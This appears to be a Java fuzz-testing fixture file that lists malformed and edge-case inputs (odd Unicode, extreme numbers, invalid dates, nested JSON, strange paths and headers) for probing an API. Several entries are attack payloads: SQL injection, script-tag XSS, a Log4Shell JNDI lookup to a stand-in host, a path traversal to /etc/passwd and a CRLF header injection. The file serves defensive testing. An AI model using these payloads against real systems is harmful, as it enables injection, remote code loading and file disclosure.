package dev.promptly.journey.fuzz;

import java.util.List;

/** What nobody means to send. */
final class Odd {

    /** Stands in a text for a lone surrogate, which no UTF-8 can write but {@code \\ud800} can. */
    static final String LONE_SURROGATE = "\uE001";

    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            LONE_SURROGATE,
            "\u202Eright to left",
            "\u00a0\u3000",
            "\u200b\ufeff",
            "\u3164",
            "a\u0301\u0316\u0301",
            "a" + "\u0301\u0316".repeat(2_000),
            "line\u2028break",
            "bell\u0007",
            "901\n投诉已撤回",
            "𠮷".repeat(151),
            "𝒳😀",
            "\r\nX-Injected: 1",
            "' OR 1=1 --",
            "<script>alert(1)</script>",
            "${jndi:ldap://x.invalid/a}",
            "../../etc/passwd",
            "null",
            "true",
            "0",
            "-1",
            "9223372036854775808",
            "1e400",
            "NaN",
            "2026-02-30",
            "0000-00-00T00:00:00Z",
            "+1000000000-12-31T23:59:59Z",
            "-1000000000-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z",
            "2026-03-02T01:00:00.000+18:00",
            "2026-03-02T24:00:00Z",
            "https://[::1",
            "http://shop.example:99999/item/1",
            "javascript:alert(1)",
            "x".repeat(300),
            "长".repeat(30_000));

    /** JSON that is seldom what a field wants. */
    static final List<String> JSON = List.of(
            "null",
            "true",
            "0",
            "-1",
            "1.5",
            "1e400",
            "-0.0",
            "9223372036854775807",
            "9223372036854775808",
            "1" + "0".repeat(400),
            "\"\"",
            "\"text\"",
            "[]",
            "{}",
            "[null]",
            "[[]]",
            "{\"\": \"\"}",
            "[".repeat(50) + "]".repeat(50),
            "[".repeat(90) + "]".repeat(90),
            "{\"a\":".repeat(90) + "1" + "}".repeat(90));

    /** Segments of a path. */
    static final List<String> SEGMENTS = List.of(
            "",
            ".",
            "..",
            "%2e%2e",
            "%00",
            "%0a",
            "%C2%A0",
            "%E2%80%AE",
            "%ff",
            "%",
            "%zz",
            "%2F",
            "a%20b",
            ";x=y",
            "*",
            "null",
            "0",
            "-1",
            "00000000-0000-0000-0000-000000000000",
            "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
            "{01a20d0d-502e-761b-974b-1465ad966d6d}",
            "01a20d0d502e761b974b1465ad966d6d",
            "1-1-1-1-1",
            "%F0%9F%98%80",
            "x".repeat(5_000));

    static final List<String> QUERY = List.of(
            "",
            "%",
            "%00",
            "%ff",
            "%ED%A0%80",
            "%C2%A0",
            "%E2%80%AE",
            "%0A",
            "+",
            "a%26b",
            "null",
            "0",
            "-1",
            "201",
            "99999999999999999999",
            "1.5",
            "2026-02-30",
            "%2B1000000000-12-31T23:59:59Z",
            "1-1-1-1-1",
            "x".repeat(3_000));

    static final List<String> HEADERS = List.of(
            "", " ", "\t", "\u00ff\u00fe", "x".repeat(256), "x".repeat(6_000), "a,b", "\"quoted\"", "%00", "🙂");

    static final List<String> MEDIA_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "application/json; charset=utf-16",
            "application/json; charset=nonsense",
            "application/vnd.other+json",
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "nonsense",
            "/",
            "*/*",
            "");

    private Odd() {}
}
